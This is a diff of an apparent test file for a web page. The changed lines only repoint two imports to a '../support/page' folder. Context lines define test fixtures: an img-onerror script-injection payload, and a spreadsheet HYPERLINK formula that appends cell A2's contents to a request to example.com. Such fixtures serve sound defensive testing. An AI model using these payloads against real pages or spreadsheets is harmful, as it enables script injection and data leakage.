@@ -1,8 +1,8 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { onStage } from './harness';
-import { allRegistered, build, button, check } from './steps';
+import { onStage } from '../support/page/on-stage';
+import { allRegistered, build, button, check } from '../support/page/steps';
 
 const HOSTILE = `<img src=x onerror="document.title='taken'">`;
 const FORMULA = '=HYPERLINK("http://example.com/?"&A2,"click")';
